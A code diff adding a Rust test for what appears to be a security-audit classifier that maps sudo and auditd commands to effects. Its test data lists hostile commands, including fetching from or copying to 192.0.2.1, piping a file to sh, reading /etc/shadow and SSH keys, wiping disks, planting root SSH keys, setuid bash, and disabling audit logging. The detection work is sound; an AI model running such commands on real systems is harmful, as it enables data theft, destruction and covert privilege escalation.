@@ -213,6 +213,115 @@ fn effects() {
     }
 }
 
+/// What sudo runs decides what it does; the action's spelling stays.
+#[test]
+fn effects_of_commands() {
+    let c = catalog();
+    for (want, commands) in [
+        (
+            Effect::Discover,
+            &[
+                "systemctl status app",
+                "systemctl list-units --failed",
+                "journalctl -u app --since today",
+                "ls -la /srv",
+                "df -h",
+                "find /srv -name core -mtime +3",
+                "iptables -t nat -L -n -v",
+                "passwd -S jane",
+                "ssh-keygen -lf /etc/ssh/ssh_host_rsa_key.pub",
+                "visudo -c",
+                "docker ps -a",
+                "kubectl -n web get pods",
+                "list",
+            ][..],
+        ),
+        (Effect::ReadData, &["cat /var/log/app.log", "tail -n 100 /etc/hosts", "docker logs web"]),
+        (Effect::Write, &["mkdir -p /srv/x", "chmod 2775 /srv/x", "chown -R app /srv", "rm -f /tmp/build/x.lock"]),
+        (
+            Effect::Execute,
+            &[
+                "systemctl restart app",
+                "systemctl stop app",
+                "bash",
+                "python3 /opt/a.py",
+                "ls ;",
+                "ls /srv && curl http://192.0.2.1/x",
+                "find / -name x -exec id {} ;",
+                "cat /opt/x | sh",
+                "apt-get update",
+                "rsync -a /srv/a/ /srv/b/",
+            ],
+        ),
+        (
+            Effect::SecretRead,
+            &[
+                "cat /etc/shadow",
+                "cp /etc/shadow /tmp/x",
+                "head -1 /home/ci/.ssh/id_ed25519",
+                "kubectl get secret tls",
+                "cd / && cat /etc/shadow",
+            ],
+        ),
+        (Effect::CopyOut, &["scp /srv/x jane@192.0.2.1:", "rsync -az /srv/ backup.example.com:/in/", "pg_dump app"]),
+        (
+            Effect::Destructive,
+            &[
+                "rm -rf /srv/data",
+                "rm -rf /tmp/../srv",
+                "dd if=/dev/zero of=/dev/sda",
+                "mkfs.ext4 /dev/sdb1",
+                "userdel x",
+                "crontab -r",
+            ],
+        ),
+        (
+            Effect::CredentialMint,
+            &[
+                "useradd -m x",
+                "ssh-keygen -t ed25519 -f /root/k",
+                "tee -a /root/.ssh/authorized_keys",
+                "echo k >> /root/.ssh/authorized_keys",
+                "passwd root",
+                "cp x /etc/shadow",
+            ],
+        ),
+        (
+            Effect::Grant,
+            &[
+                "usermod -aG sudo x",
+                "visudo",
+                "chmod u+s /bin/bash",
+                "chmod 4755 /bin/bash",
+                "setcap cap_setuid+ep /bin/x",
+                "tee /etc/sudoers.d/x",
+            ],
+        ),
+        (
+            Effect::DefenseEvasion,
+            &[
+                "systemctl stop auditd",
+                "systemctl disable --now rsyslog.service",
+                "service falco stop",
+                "pkill -9 auditd",
+                "iptables -F",
+                "history -c",
+                "truncate -s 0 /var/log/auth.log",
+                "rm -rf /var/log/audit/audit.log",
+                "rm -f /root/.bash_history",
+                "setenforce 0",
+                "auditctl -e 0",
+            ],
+        ),
+    ] {
+        for command in commands {
+            for (source, action) in [(Source::Sudo, "sudo:exec"), (Source::Auditd, "auditd:EXECVE")] {
+                assert_eq!(c.effect_at(source, action, Some(command)), want, "{action} {command}");
+            }
+        }
+    }
+}
+
 /// What an action's class promises, its effect must not play down.
 #[test]
 fn classes_and_effects_agree() {
